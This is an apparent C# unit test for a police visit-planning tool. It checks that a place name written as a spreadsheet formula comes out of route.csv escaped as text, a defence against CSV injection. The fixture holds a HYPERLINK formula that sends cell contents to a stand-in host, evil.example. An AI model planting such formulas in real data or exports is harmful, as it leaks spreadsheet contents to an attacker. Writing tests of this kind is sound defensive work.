using Hotspots.Tests.Api;
using Hotspots.Tests.Visits.Plans;

namespace Hotspots.Tests.Visits.Briefing;

/// <summary>
/// CSV injection (OWASP): a place name that is a spreadsheet formula, as an OSM import can bring in, must reach the
/// officer's spreadsheet as text, not run when route.csv is opened.
/// </summary>
public sealed class RouteCsvAttackTests(PlansFixture app) : IClassFixture<PlansFixture>
{
    [Fact]
    public async Task A_place_named_as_a_formula_is_written_to_route_csv_as_text()
    {
        const string Formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")";
        var id = await app.Scalar<long>(
            "INSERT INTO risk_businesses (name, sector, address, location) VALUES ($1, 'hand_car_wash', '@SUM(1+1)', ST_SetSRID(ST_MakePoint(414600, 416600), 27700)) RETURNING id",
            Formula);
        using var client = await app.SignedIn("analyst.police");
        var visit = (await client.Data(VisitPlanTests.Plan, VisitPlanTests.PlanFor(app, [new { kind = "RISK_BUSINESS", placeId = id }])))["planVisit"]!;

        var csv = (await client.GetStringAsync($"/visits/{visit["id"]}/route.csv")).Split('\n');
        Assert.StartsWith("# OFFICIAL-SENSITIVE", csv[0]);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Open\"\")\",\"'@SUM(1+1)\",", csv[2]);
    }
}
